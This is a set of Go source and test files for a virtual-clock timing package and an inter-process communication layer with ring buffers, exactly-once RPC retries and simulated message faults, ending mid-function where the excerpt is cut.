// New returns a clock starting at virtual time zero.
func New() *Clock { return &Clock{} }

// Now returns the current virtual time.
func (c *Clock) Now() Duration {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.now
}

// Advance moves the clock forward by d and returns the new time.
// Negative advances are ignored: virtual time never moves backwards.
func (c *Clock) Advance(d Duration) Duration {
	if d < 0 {
		d = 0
	}
	c.mu.Lock()
	defer c.mu.Unlock()
	c.now += d
	return c.now
}

// Observe merges an externally observed virtual time into this clock:
// now = max(now, t). This is the max-merge join rule for per-shard clocks —
// when a serving run joins its shards, the merged reading is critical-path
// time (the slowest shard), not the sum of all shards' work. Returns the
// post-merge time.
func (c *Clock) Observe(t Duration) Duration {
	c.mu.Lock()
	defer c.mu.Unlock()
	if t > c.now {
		c.now = t
	}
	return c.now
}

// Max returns the latest current time across the given clocks — the
// executor-join critical path. Nil clocks are skipped; no clocks reads as
// zero.
func Max(clocks ...*Clock) Duration {
	var out Duration
	for _, c := range clocks {
		if c == nil {
			continue
		}
		if t := c.Now(); t > out {
			out = t
		}
	}
	return out
}

// Reset rewinds the clock to zero. Intended for test and experiment setup.
func (c *Clock) Reset() {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.now = 0
}

// String formats the current virtual time.
func (c *Clock) String() string {
	return fmt.Sprintf("vclock(%s)", c.Now())
}
