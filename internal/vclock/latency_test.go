package vclock

import "testing"

// TestPercentileEmpty pins the zero-sample convention: every percentile of
// an empty distribution reads zero, not a panic or a sentinel.
func TestPercentileEmpty(t *testing.T) {
	var l Latencies
	for _, p := range []float64{0, 50, 95, 99, 100} {
		if got := l.Percentile(p); got != 0 {
			t.Fatalf("empty Percentile(%v) = %v, want 0", p, got)
		}
	}
	if l.Mean() != 0 {
		t.Fatalf("empty Mean = %v, want 0", l.Mean())
	}
	if l.Len() != 0 {
		t.Fatalf("empty Len = %d, want 0", l.Len())
	}
}

// TestPercentileSingleSample checks that one sample answers every
// percentile: nearest-rank with n=1 always resolves to rank 1.
func TestPercentileSingleSample(t *testing.T) {
	var l Latencies
	l.Add(42)
	for _, p := range []float64{0, 1, 50, 99, 100} {
		if got := l.Percentile(p); got != 42 {
			t.Fatalf("single-sample Percentile(%v) = %v, want 42", p, got)
		}
	}
}

// TestPercentileBounds pins the p0/p100 endpoints (and out-of-range
// clamps) to the minimum and maximum samples.
func TestPercentileBounds(t *testing.T) {
	var l Latencies
	for _, d := range []Duration{30, 10, 50, 20, 40} {
		l.Add(d)
	}
	cases := []struct {
		p    float64
		want Duration
	}{
		{-5, 10}, {0, 10}, {100, 50}, {150, 50},
	}
	for _, c := range cases {
		if got := l.Percentile(c.p); got != c.want {
			t.Fatalf("Percentile(%v) = %v, want %v", c.p, got, c.want)
		}
	}
}

// TestPercentileNearestRank pins the nearest-rank definition —
// ceil(p/100*n), 1-based — on a distribution small enough to enumerate.
func TestPercentileNearestRank(t *testing.T) {
	var l Latencies
	for i := 1; i <= 10; i++ {
		l.Add(Duration(i * 100))
	}
	cases := []struct {
		p    float64
		want Duration
	}{
		{10, 100},  // rank ceil(1) = 1
		{11, 200},  // rank ceil(1.1) = 2
		{50, 500},  // rank ceil(5) = 5
		{51, 600},  // rank ceil(5.1) = 6
		{90, 900},  // rank ceil(9) = 9
		{95, 1000}, // rank ceil(9.5) = 10
		{99, 1000}, // rank ceil(9.9) = 10
	}
	for _, c := range cases {
		if got := l.Percentile(c.p); got != c.want {
			t.Fatalf("Percentile(%v) = %v, want %v", c.p, got, c.want)
		}
	}
}

// TestPercentileDuplicates checks that tied samples are each ranked: a
// distribution dominated by one value answers that value across the
// quantile range instead of skipping ranks.
func TestPercentileDuplicates(t *testing.T) {
	var l Latencies
	for i := 0; i < 9; i++ {
		l.Add(70)
	}
	l.Add(900)
	for _, p := range []float64{1, 25, 50, 89, 90} {
		if got := l.Percentile(p); got != 70 {
			t.Fatalf("Percentile(%v) = %v, want 70", p, got)
		}
	}
	if got := l.Percentile(91); got != 900 {
		t.Fatalf("Percentile(91) = %v, want 900", got)
	}
	if got := l.Percentile(100); got != 900 {
		t.Fatalf("Percentile(100) = %v, want 900", got)
	}
}

// TestPercentileMonotone sweeps the quantile range and requires the
// percentile function to be non-decreasing — the property every caller
// (hedge-delay derivation included) implicitly relies on.
func TestPercentileMonotone(t *testing.T) {
	var l Latencies
	// A lumpy distribution: duplicates, a gap, and an outlier.
	for _, d := range []Duration{5, 5, 5, 8, 8, 21, 21, 21, 34, 1000} {
		l.Add(d)
	}
	prev := l.Percentile(0)
	for p := 1; p <= 100; p++ {
		cur := l.Percentile(float64(p))
		if cur < prev {
			t.Fatalf("Percentile not monotone: p%d = %v < p%d = %v", p, cur, p-1, prev)
		}
		prev = cur
	}
}

// TestAddClampsNegative pins the clamp: negative samples (a crashed shard
// clock reading zero) record as zero rather than corrupting the sort.
func TestAddClampsNegative(t *testing.T) {
	var l Latencies
	l.Add(-5)
	l.Add(10)
	if got := l.Percentile(0); got != 0 {
		t.Fatalf("min after negative Add = %v, want 0", got)
	}
}
