package ipc

import (
	"bytes"
	"errors"
	"fmt"
	"runtime"
	"sync"
	"testing"
	"testing/quick"
	"time"

	"freepart.dev/freepart/internal/vclock"
)

func TestRingFIFO(t *testing.T) {
	r := NewRing(4)
	for i := 0; i < 4; i++ {
		if err := r.Send(Message{Seq: uint64(i)}); err != nil {
			t.Fatal(err)
		}
	}
	for i := 0; i < 4; i++ {
		m, err := r.Recv()
		if err != nil || m.Seq != uint64(i) {
			t.Fatalf("recv %d = %v, %v", i, m.Seq, err)
		}
	}
}

func TestRingBlocksWhenFullThenDrains(t *testing.T) {
	r := NewRing(1)
	if err := r.Send(Message{Seq: 1}); err != nil {
		t.Fatal(err)
	}
	done := make(chan error, 1)
	go func() { done <- r.Send(Message{Seq: 2}) }()
	// Wait until the producer has actually parked on the full ring.
	for r.Stats().Blocked == 0 {
		runtime.Gosched()
	}
	m, err := r.Recv()
	if err != nil || m.Seq != 1 {
		t.Fatalf("recv = %v, %v", m.Seq, err)
	}
	if err := <-done; err != nil {
		t.Fatal(err)
	}
	m, _ = r.Recv()
	if m.Seq != 2 {
		t.Fatalf("second recv = %d", m.Seq)
	}
	if r.Stats().Blocked == 0 {
		t.Fatal("blocked counter should record the futex wait")
	}
}

func TestRingTrySend(t *testing.T) {
	r := NewRing(1)
	ok, err := r.TrySend(Message{Seq: 1})
	if !ok || err != nil {
		t.Fatalf("TrySend = %v, %v", ok, err)
	}
	ok, err = r.TrySend(Message{Seq: 2})
	if ok || err != nil {
		t.Fatalf("full TrySend = %v, %v", ok, err)
	}
	r.Close()
	if _, err := r.TrySend(Message{}); !errors.Is(err, ErrClosed) {
		t.Fatalf("closed TrySend err = %v", err)
	}
}

func TestRingCloseDrains(t *testing.T) {
	r := NewRing(4)
	_ = r.Send(Message{Seq: 9})
	r.Close()
	if err := r.Send(Message{}); !errors.Is(err, ErrClosed) {
		t.Fatalf("send after close = %v", err)
	}
	m, err := r.Recv()
	if err != nil || m.Seq != 9 {
		t.Fatalf("queued message should survive close: %v %v", m.Seq, err)
	}
	if _, err := r.Recv(); !errors.Is(err, ErrClosed) {
		t.Fatalf("drained closed recv = %v", err)
	}
}

func TestRingCloseWakesBlockedReceiver(t *testing.T) {
	r := NewRing(1)
	done := make(chan error, 1)
	go func() {
		_, err := r.Recv()
		done <- err
	}()
	r.Close()
	if err := <-done; !errors.Is(err, ErrClosed) {
		t.Fatalf("blocked recv woke with %v", err)
	}
}

func TestRingStatsBytes(t *testing.T) {
	r := NewRing(4)
	_ = r.Send(Message{Payload: make([]byte, 100)})
	st := r.Stats()
	if st.Messages != 1 || st.Bytes != 116 { // 16-byte header
		t.Fatalf("stats = %+v", st)
	}
}

func TestRingConcurrentProducersConsumers(t *testing.T) {
	r := NewRing(8)
	const producers, per = 4, 250
	var wg sync.WaitGroup
	for i := 0; i < producers; i++ {
		wg.Add(1)
		go func(base int) {
			defer wg.Done()
			for j := 0; j < per; j++ {
				_ = r.Send(Message{Seq: uint64(base*per + j)})
			}
		}(i)
	}
	seen := make(map[uint64]bool)
	var mu sync.Mutex
	var cg sync.WaitGroup
	for i := 0; i < 2; i++ {
		cg.Add(1)
		go func() {
			defer cg.Done()
			for {
				m, err := r.Recv()
				if err != nil {
					return
				}
				mu.Lock()
				seen[m.Seq] = true
				mu.Unlock()
			}
		}()
	}
	wg.Wait()
	r.Close()
	cg.Wait()
	if len(seen) != producers*per {
		t.Fatalf("received %d distinct messages, want %d", len(seen), producers*per)
	}
}

func TestDefaultCapacity(t *testing.T) {
	if NewRing(0).Cap() != DefaultRingCapacity || NewRing(-3).Cap() != DefaultRingCapacity {
		t.Fatal("non-positive capacity should use default")
	}
}

// echoConn starts a server that echoes payloads with kind prepended.
func echoConn(t *testing.T) *Conn {
	t.Helper()
	c := NewConn(8, nil, vclock.CostModel{})
	go c.Serve(func(kind uint32, p []byte) ([]byte, error) {
		return append([]byte{byte(kind)}, p...), nil
	})
	t.Cleanup(c.Close)
	return c
}

func TestCallRoundTrip(t *testing.T) {
	c := echoConn(t)
	out, err := c.Call(7, []byte("abc"))
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(out, append([]byte{7}, []byte("abc")...)) {
		t.Fatalf("out = %v", out)
	}
	st := c.Stats()
	if st.Calls != 1 || st.BytesRequest != 3 {
		t.Fatalf("stats = %+v", st)
	}
}

func TestCallApplicationError(t *testing.T) {
	c := NewConn(8, nil, vclock.CostModel{})
	go c.Serve(func(kind uint32, p []byte) ([]byte, error) {
		return nil, fmt.Errorf("bad input %q", p)
	})
	defer c.Close()
	_, err := c.Call(1, []byte("x"))
	if err == nil || err.Error() != `bad input "x"` {
		t.Fatalf("err = %v", err)
	}
}

func TestCallCrashPropagates(t *testing.T) {
	c := NewConn(8, nil, vclock.CostModel{})
	go c.Serve(func(kind uint32, p []byte) ([]byte, error) {
		return nil, fmt.Errorf("%w: segfault in imread", ErrAgentCrashed)
	})
	defer c.Close()
	_, err := c.Call(1, nil)
	if !errors.Is(err, ErrAgentCrashed) {
		t.Fatalf("err = %v", err)
	}
}

func TestRetryDedup(t *testing.T) {
	// The server executes a side-effecting handler; a Retry with the same
	// sequence must be answered from the cache without re-executing —
	// the exactly-once guarantee of §4.3.
	var executions int
	var mu sync.Mutex
	c := NewConn(8, nil, vclock.CostModel{})
	go c.Serve(func(kind uint32, p []byte) ([]byte, error) {
		mu.Lock()
		executions++
		mu.Unlock()
		return []byte("done"), nil
	})
	defer c.Close()

	out, err := c.Call(1, []byte("req"))
	if err != nil || string(out) != "done" {
		t.Fatalf("call = %q, %v", out, err)
	}
	seq := c.LastSeq()
	out, err = c.Retry(seq, 1, []byte("req"))
	if err != nil || string(out) != "done" {
		t.Fatalf("retry = %q, %v", out, err)
	}
	mu.Lock()
	defer mu.Unlock()
	if executions != 1 {
		t.Fatalf("handler executed %d times, want 1 (exactly-once)", executions)
	}
	if c.Stats().Dedups != 1 || c.Stats().Retries != 1 {
		t.Fatalf("stats = %+v", c.Stats())
	}
}

func TestRetryAfterCrashReexecutes(t *testing.T) {
	// First attempt crashes before completing; the retry must execute —
	// the at-least-once path of §4.4.2.
	var attempts int
	var mu sync.Mutex
	c := NewConn(8, nil, vclock.CostModel{})
	go c.Serve(func(kind uint32, p []byte) ([]byte, error) {
		mu.Lock()
		attempts++
		n := attempts
		mu.Unlock()
		if n == 1 {
			return nil, fmt.Errorf("%w: first try dies", ErrAgentCrashed)
		}
		return []byte("ok"), nil
	})
	defer c.Close()

	_, err := c.Call(5, nil)
	if !errors.Is(err, ErrAgentCrashed) {
		t.Fatalf("first call err = %v", err)
	}
	out, err := c.Retry(c.LastSeq(), 5, nil)
	if err != nil || string(out) != "ok" {
		t.Fatalf("retry = %q, %v", out, err)
	}
	mu.Lock()
	defer mu.Unlock()
	if attempts != 2 {
		t.Fatalf("attempts = %d, want 2", attempts)
	}
}

func TestCallChargesVirtualTime(t *testing.T) {
	clk := vclock.New()
	c := NewConn(8, clk, vclock.Default())
	go c.Serve(func(kind uint32, p []byte) ([]byte, error) { return p, nil })
	defer c.Close()
	small, _ := c.Call(1, make([]byte, 16))
	_ = small
	afterSmall := clk.Now()
	_, _ = c.Call(1, make([]byte, 1<<20))
	afterBig := clk.Now() - afterSmall
	if afterBig <= afterSmall {
		t.Fatalf("1MiB call (%v) should cost more than 16B call (%v)", afterBig, afterSmall)
	}
}

func TestDedupCacheEviction(t *testing.T) {
	c := NewConn(8, nil, vclock.CostModel{})
	c.doneCap = 4
	go c.Serve(func(kind uint32, p []byte) ([]byte, error) { return p, nil })
	defer c.Close()
	for i := 0; i < 10; i++ {
		if _, err := c.Call(0, []byte{byte(i)}); err != nil {
			t.Fatal(err)
		}
	}
	c.mu.Lock()
	defer c.mu.Unlock()
	if len(c.done) > 4 {
		t.Fatalf("dedup cache grew to %d entries, cap 4", len(c.done))
	}
}

func TestCallSeqProperty(t *testing.T) {
	// Sequence numbers strictly increase and responses match requests.
	c := echoConn(t)
	prev := uint64(0)
	f := func(b byte) bool {
		out, err := c.Call(uint32(b), []byte{b})
		if err != nil {
			return false
		}
		seq := c.LastSeq()
		ok := seq > prev && len(out) == 2 && out[0] == b && out[1] == b
		prev = seq
		return ok
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 100}); err != nil {
		t.Fatal(err)
	}
}

// --- call deadline, peer death, and fault injection ---

func TestCallDeadlineTimesOut(t *testing.T) {
	// No Serve goroutine: the request is never answered. The deadline must
	// bound the failure with a typed error.
	c := NewConn(4, nil, vclock.CostModel{})
	c.SetDeadline(80 * time.Millisecond)
	start := time.Now()
	_, err := c.Call(0, []byte("x"))
	if !errors.Is(err, ErrTimeout) {
		t.Fatalf("err = %v, want ErrTimeout", err)
	}
	if time.Since(start) > 2*time.Second {
		t.Fatalf("timed call took %v; deadline not enforced", time.Since(start))
	}
}

func TestCallPeerDeadDetected(t *testing.T) {
	// A generous deadline, but the liveness probe says the peer died: the
	// call must fail fast with ErrPeerDead, not wait out the deadline.
	c := NewConn(4, nil, vclock.CostModel{})
	c.SetDeadline(10 * time.Second)
	c.SetPeerCheck(func() bool { return false })
	start := time.Now()
	_, err := c.Call(0, nil)
	if !errors.Is(err, ErrPeerDead) {
		t.Fatalf("err = %v, want ErrPeerDead", err)
	}
	if time.Since(start) > 2*time.Second {
		t.Fatalf("dead-peer call took %v", time.Since(start))
	}
}

func TestCallSucceedsUnderDeadline(t *testing.T) {
	c := NewConn(4, nil, vclock.CostModel{})
	c.SetDeadline(5 * time.Second)
	c.SetPeerCheck(func() bool { return true })
	go c.Serve(func(kind uint32, p []byte) ([]byte, error) { return p, nil })
	defer c.Close()
	out, err := c.Call(0, []byte("hi"))
	if err != nil || string(out) != "hi" {
		t.Fatalf("call = %q, %v", out, err)
	}
}

// scriptedInjector fails exactly the first request (or response) it sees.
type scriptedInjector struct {
	mu        sync.Mutex
	reqFault  MessageFault
	respFault MessageFault
	reqUsed   bool
	respUsed  bool
}

func (s *scriptedInjector) RequestFault(seq uint64, payload []byte) MessageFault {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.reqUsed {
		return MessageFault{}
	}
	s.reqUsed = true
	return s.reqFault
}

func (s *scriptedInjector) ResponseFault(seq uint64, payload []byte) MessageFault {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.respUsed {
		return MessageFault{}
	}
	s.respUsed = true
	return s.respFault
}

func countingServer(t *testing.T, c *Conn) *int {
	t.Helper()
	executions := new(int)
	var mu sync.Mutex
	go c.Serve(func(kind uint32, p []byte) ([]byte, error) {
		mu.Lock()
		*executions++
		mu.Unlock()
		return []byte("ok"), nil
	})
	t.Cleanup(c.Close)
	return executions
}

func TestCorruptRequestDetectedThenRetried(t *testing.T) {
	c := NewConn(8, nil, vclock.CostModel{})
	c.SetInjector(&scriptedInjector{reqFault: MessageFault{Corrupt: true}})
	executions := countingServer(t, c)
	_, err := c.Call(1, []byte("abc"))
	if !errors.Is(err, ErrCorrupt) {
		t.Fatalf("err = %v, want ErrCorrupt", err)
	}
	out, err := c.Retry(c.LastSeq(), 1, []byte("abc"))
	if err != nil || string(out) != "ok" {
		t.Fatalf("retry = %q, %v", out, err)
	}
	if *executions != 1 {
		t.Fatalf("handler ran %d times, want 1 (corrupt request must not dispatch)", *executions)
	}
}

func TestDroppedResponseTimeoutThenDedupAnswers(t *testing.T) {
	// The handler executes, but the response is lost. The retry under the
	// same sequence must be answered from the dedup cache: exactly-once
	// across message loss.
	c := NewConn(8, nil, vclock.CostModel{})
	c.SetDeadline(5 * time.Second)
	c.SetInjector(&scriptedInjector{respFault: MessageFault{Drop: true}})
	executions := countingServer(t, c)
	_, err := c.Call(1, []byte("abc"))
	if !errors.Is(err, ErrTimeout) {
		t.Fatalf("err = %v, want ErrTimeout", err)
	}
	out, err := c.Retry(c.LastSeq(), 1, []byte("abc"))
	if err != nil || string(out) != "ok" {
		t.Fatalf("retry = %q, %v", out, err)
	}
	if *executions != 1 {
		t.Fatalf("handler ran %d times, want 1 (dedup must absorb the retry)", *executions)
	}
	if c.Stats().Dedups != 1 {
		t.Fatalf("stats = %+v, want 1 dedup", c.Stats())
	}
}

func TestDuplicatedRequestAbsorbedByDedup(t *testing.T) {
	c := NewConn(8, nil, vclock.CostModel{})
	c.SetInjector(&scriptedInjector{reqFault: MessageFault{Duplicate: true}})
	executions := countingServer(t, c)
	out, err := c.Call(1, []byte("abc"))
	if err != nil || string(out) != "ok" {
		t.Fatalf("call = %q, %v", out, err)
	}
	// A fresh call drains any stale duplicate response left in the ring.
	out, err = c.Call(1, []byte("next"))
	if err != nil || string(out) != "ok" {
		t.Fatalf("second call = %q, %v", out, err)
	}
	if *executions != 2 {
		t.Fatalf("handler ran %d times, want 2 (duplicate must not re-execute)", *executions)
	}
	if c.Stats().Dedups != 1 {
		t.Fatalf("stats = %+v, want 1 dedup", c.Stats())
	}
}

func TestDroppedRequestChargesVirtualTimeout(t *testing.T) {
	clk := vclock.New()
	c := NewConn(8, clk, vclock.Default())
	c.SetInjector(&scriptedInjector{reqFault: MessageFault{Drop: true}})
	go c.Serve(func(kind uint32, p []byte) ([]byte, error) { return p, nil })
	defer c.Close()
	_, err := c.Call(1, []byte("abc"))
	if !errors.Is(err, ErrTimeout) {
		t.Fatalf("err = %v, want ErrTimeout", err)
	}
	if clk.Now() < vclock.Default().IPCTimeout {
		t.Fatalf("clock = %v, want >= IPCTimeout (%v)", clk.Now(), vclock.Default().IPCTimeout)
	}
}

// --- seq-multiplexed pipelining ---

func TestPipelinedOverlappingCalls(t *testing.T) {
	// Many goroutines issue calls concurrently on ONE connection. Under the
	// old lock-step protocol they would steal each other's responses; with
	// seq multiplexing every caller must get exactly its own echo back.
	c := echoConn(t)
	const callers = 16
	const perCaller = 25
	var wg sync.WaitGroup
	errs := make([]error, callers)
	for g := 0; g < callers; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			for i := 0; i < perCaller; i++ {
				payload := []byte{byte(g), byte(i)}
				out, err := c.Call(uint32(g), payload)
				if err != nil {
					errs[g] = err
					return
				}
				if len(out) != 3 || out[0] != byte(g) || out[1] != byte(g) || out[2] != byte(i) {
					errs[g] = fmt.Errorf("caller %d got foreign response %v", g, out)
					return
				}
			}
		}(g)
	}
	wg.Wait()
	for g, err := range errs {
		if err != nil {
			t.Fatalf("caller %d: %v", g, err)
		}
	}
	if got := c.Stats().Calls; got != callers*perCaller {
		t.Fatalf("calls = %d, want %d", got, callers*perCaller)
	}
	if c.InFlight() != 0 {
		t.Fatalf("in-flight = %d after drain, want 0", c.InFlight())
	}
}

func TestPipelinedSlowFirstCallDoesNotBlockSecond(t *testing.T) {
	// The server answers seq 1 only after seq 2 has been answered; a
	// lock-step client would deadlock interpreting seq 2's response as
	// garbage. The demux must deliver each response to its own waiter.
	c := NewConn(8, nil, vclock.CostModel{})
	firstSeen := make(chan struct{})
	secondDone := make(chan struct{})
	go c.Serve(func(kind uint32, p []byte) ([]byte, error) {
		if kind == 1 {
			close(firstSeen)
			<-secondDone // park the agent until call 2 is fully answered
		}
		return p, nil
	})
	t.Cleanup(c.Close)

	firstOut := make(chan error, 1)
	go func() {
		out, err := c.Call(1, []byte("slow"))
		if err == nil && string(out) != "slow" {
			err = fmt.Errorf("wrong payload %q", out)
		}
		firstOut <- err
	}()
	<-firstSeen
	// The agent is parked inside call 1. Call 2 must still complete: its
	// request pipelines into the ring... but the serve loop is busy, so we
	// release it from a second goroutine once our request is enqueued.
	go func() {
		for c.req.Len() == 0 {
			time.Sleep(time.Millisecond)
		}
		close(secondDone)
	}()
	out, err := c.Call(2, []byte("fast"))
	if err != nil || string(out) != "fast" {
		t.Fatalf("second call = %q, %v", out, err)
	}
	if err := <-firstOut; err != nil {
		t.Fatalf("first call: %v", err)
	}
}

func TestPipelinedRetrySemanticsPreserved(t *testing.T) {
	// Overlapping callers plus a dropped response: the victim retries under
	// its original sequence and is answered from the dedup cache while other
	// callers keep flowing.
	c := NewConn(16, nil, vclock.CostModel{})
	c.SetDeadline(200 * time.Millisecond)
	c.SetInjector(&scriptedInjector{respFault: MessageFault{Drop: true}})
	executions := countingServer(t, c)

	seq := c.NextSeq()
	_, err := c.CallSeq(seq, 1, []byte("victim"))
	if !errors.Is(err, ErrTimeout) {
		t.Fatalf("err = %v, want ErrTimeout", err)
	}
	var wg sync.WaitGroup
	for g := 0; g < 4; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			if _, err := c.Call(2, []byte("bystander")); err != nil {
				t.Errorf("bystander: %v", err)
			}
		}()
	}
	out, err := c.Retry(seq, 1, []byte("victim"))
	wg.Wait()
	if err != nil || string(out) != "ok" {
		t.Fatalf("retry = %q, %v", out, err)
	}
	if c.Stats().Dedups != 1 {
		t.Fatalf("dedups = %d, want 1", c.Stats().Dedups)
	}
	if *executions != 5 {
		t.Fatalf("handler ran %d times, want 5 (victim once + 4 bystanders)", *executions)
	}
}
