// Package ipc implements the inter-process communication substrate:
// fixed-capacity shared-memory-style ring buffers and a request/response
// RPC layer with exactly-once delivery.
//
// The paper's prototype moves API requests between the host and agent
// processes over shared-memory ring buffers synchronized with futexes
// (§4.3, footnote 8). This package reproduces the same structure — bounded
// rings, blocking producers/consumers, per-channel byte accounting — using
// condition variables as the futex stand-in, and layers the paper's RPC
// semantics on top: exactly-once in normal operation (§4.3) and
// at-least-once across agent restarts (§4.4.2). Calls are seq-multiplexed
// (a demux goroutine matches responses to outstanding sequence numbers),
// so one agent connection serves any number of overlapping callers.
package ipc

import (
	"errors"
	"sync"
	"time"
)

// ErrClosed is returned by operations on a closed ring.
var ErrClosed = errors.New("ipc: ring closed")

// Message is one framed transfer over a ring.
type Message struct {
	// Seq is the request sequence number (RPC layer).
	Seq uint64
	// Kind is an application tag (e.g. API id).
	Kind uint32
	// Sum is an FNV-1a checksum of the payload as the sender intended it,
	// letting the receiver detect in-transit corruption.
	Sum uint64
	// Epoch is the attempt number of the request (0 for the first send,
	// bumped on every Retry of the same sequence). The server echoes it, so
	// the client can tell a response to the current attempt from a stale
	// answer to an abandoned one — e.g. a crash notification still in
	// flight when the liveness probe already failed the call and the retry
	// went out under the same sequence number.
	Epoch uint32
	// Payload is the marshalled body.
	Payload []byte
}

// size returns the accounted size of the message in bytes (header+payload),
// approximating the wire framing of the shared-memory ring.
func (m Message) size() int { return 16 + len(m.Payload) }

// RingStats counts traffic through one ring.
type RingStats struct {
	Messages uint64
	Bytes    uint64
	Blocked  uint64 // times a producer or consumer had to wait (futex waits)
}

// Ring is a bounded FIFO of messages. Send blocks when full, Recv blocks
// when empty — the behaviour of a shared-memory ring with futex wakeups.
// Safe for concurrent use by multiple producers and consumers.
type Ring struct {
	mu     sync.Mutex
	cond   *sync.Cond
	buf    []Message
	head   int
	count  int
	closed bool
	stats  RingStats
}

// DefaultRingCapacity is used when NewRing is given a non-positive capacity.
const DefaultRingCapacity = 64

// NewRing creates a ring holding up to capacity in-flight messages.
func NewRing(capacity int) *Ring {
	if capacity <= 0 {
		capacity = DefaultRingCapacity
	}
	r := &Ring{buf: make([]Message, capacity)}
	r.cond = sync.NewCond(&r.mu)
	return r
}

// Cap returns the ring's capacity.
func (r *Ring) Cap() int { return len(r.buf) }

// Len returns the number of queued messages.
func (r *Ring) Len() int {
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.count
}

// Send enqueues m, blocking while the ring is full. Returns ErrClosed if
// the ring is (or becomes) closed.
func (r *Ring) Send(m Message) error {
	r.mu.Lock()
	defer r.mu.Unlock()
	for r.count == len(r.buf) && !r.closed {
		r.stats.Blocked++
		r.cond.Wait()
	}
	if r.closed {
		return ErrClosed
	}
	r.buf[(r.head+r.count)%len(r.buf)] = m
	r.count++
	r.stats.Messages++
	r.stats.Bytes += uint64(m.size())
	r.cond.Broadcast()
	return nil
}

// TrySend enqueues without blocking; ok is false when the ring is full.
func (r *Ring) TrySend(m Message) (bool, error) {
	r.mu.Lock()
	defer r.mu.Unlock()
	if r.closed {
		return false, ErrClosed
	}
	if r.count == len(r.buf) {
		return false, nil
	}
	r.buf[(r.head+r.count)%len(r.buf)] = m
	r.count++
	r.stats.Messages++
	r.stats.Bytes += uint64(m.size())
	r.cond.Broadcast()
	return true, nil
}

// Recv dequeues the oldest message, blocking while the ring is empty.
// Returns ErrClosed once the ring is closed and drained.
func (r *Ring) Recv() (Message, error) {
	r.mu.Lock()
	defer r.mu.Unlock()
	for r.count == 0 && !r.closed {
		r.stats.Blocked++
		r.cond.Wait()
	}
	if r.count == 0 && r.closed {
		return Message{}, ErrClosed
	}
	m := r.buf[r.head]
	r.buf[r.head] = Message{}
	r.head = (r.head + 1) % len(r.buf)
	r.count--
	r.cond.Broadcast()
	return m, nil
}

// RecvTimeout dequeues the oldest message, waiting at most d for one to
// arrive. timedOut reports that the wait expired with the ring still empty;
// the caller can poll liveness and come back. Returns ErrClosed once the
// ring is closed and drained.
func (r *Ring) RecvTimeout(d time.Duration) (m Message, timedOut bool, err error) {
	deadline := time.Now().Add(d)
	r.mu.Lock()
	defer r.mu.Unlock()
	for r.count == 0 && !r.closed {
		remain := time.Until(deadline)
		if remain <= 0 {
			return Message{}, true, nil
		}
		r.stats.Blocked++
		t := time.AfterFunc(remain, r.cond.Broadcast)
		r.cond.Wait()
		t.Stop()
	}
	if r.count == 0 && r.closed {
		return Message{}, false, ErrClosed
	}
	m = r.buf[r.head]
	r.buf[r.head] = Message{}
	r.head = (r.head + 1) % len(r.buf)
	r.count--
	r.cond.Broadcast()
	return m, false, nil
}

// Close wakes all blocked parties. Queued messages remain receivable.
func (r *Ring) Close() {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.closed = true
	r.cond.Broadcast()
}

// Stats returns a snapshot of traffic counters.
func (r *Ring) Stats() RingStats {
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.stats
}
