package ipc

import (
	"errors"
	"fmt"
	"sync"
	"sync/atomic"

	"freepart.dev/freepart/internal/vclock"
)

// ErrAgentCrashed is returned by Call when the serving side crashed while
// executing the request. The caller (FreePart's restart supervisor) decides
// whether to retry, giving at-least-once semantics.
var ErrAgentCrashed = errors.New("ipc: agent crashed during request")

// Handler executes one request and returns the response payload.
// Returning an error wrapped around ErrAgentCrashed signals that the agent
// process died mid-request.
type Handler func(kind uint32, payload []byte) ([]byte, error)

// CallStats counts RPC activity on a Conn.
type CallStats struct {
	Calls         uint64 // round trips issued
	Retries       uint64 // re-sent requests after a crash
	Dedups        uint64 // duplicate requests absorbed by the server cache
	BytesRequest  uint64
	BytesResponse uint64
}

// Conn is a bidirectional RPC connection between the host process and one
// agent process, built on two rings. The server side runs in its own
// goroutine (Serve); the client side issues synchronous Calls.
//
// Exactly-once: every request carries a sequence number; the server caches
// the response to each sequence it has completed, so a retried request
// (sent because the client saw a crash after the agent may or may not have
// finished) is answered from the cache instead of re-executed. Stateless
// re-execution after a genuine crash is the documented at-least-once path.
type Conn struct {
	req  *Ring
	resp *Ring

	clock *vclock.Clock
	cost  vclock.CostModel

	seq atomic.Uint64

	mu      sync.Mutex
	stats   CallStats
	done    map[uint64][]byte // server-side dedup cache
	doneCap int
	order   []uint64 // insertion order for cache eviction
}

// NewConn creates a connection with the given ring capacity. clock may be
// nil to skip virtual-time charging (unit tests).
func NewConn(capacity int, clock *vclock.Clock, cost vclock.CostModel) *Conn {
	return &Conn{
		req:     NewRing(capacity),
		resp:    NewRing(capacity),
		clock:   clock,
		cost:    cost,
		done:    make(map[uint64][]byte),
		doneCap: 1024,
	}
}

// respKindOK and respKindCrash tag server responses.
const (
	respKindOK uint32 = iota
	respKindCrash
)

// Serve runs the server loop: receive, execute (with dedup), respond.
// It returns when the request ring is closed. Run it in a goroutine.
func (c *Conn) Serve(h Handler) {
	for {
		m, err := c.req.Recv()
		if err != nil {
			return
		}
		c.mu.Lock()
		cached, dup := c.done[m.Seq]
		if dup {
			c.stats.Dedups++
		}
		c.mu.Unlock()
		if dup {
			_ = c.resp.Send(Message{Seq: m.Seq, Kind: respKindOK, Payload: cached})
			continue
		}
		out, err := h(m.Kind, m.Payload)
		if err != nil && errors.Is(err, ErrAgentCrashed) {
			_ = c.resp.Send(Message{Seq: m.Seq, Kind: respKindCrash, Payload: []byte(err.Error())})
			continue
		}
		if err != nil {
			// Application-level errors travel as payloads; the RPC layer
			// only distinguishes success from crash.
			out = append([]byte("!"), []byte(err.Error())...)
		} else {
			out = append([]byte("="), out...)
		}
		c.remember(m.Seq, out)
		_ = c.resp.Send(Message{Seq: m.Seq, Kind: respKindOK, Payload: out})
	}
}

// remember stores a completed response for dedup, evicting oldest entries.
func (c *Conn) remember(seq uint64, out []byte) {
	c.mu.Lock()
	defer c.mu.Unlock()
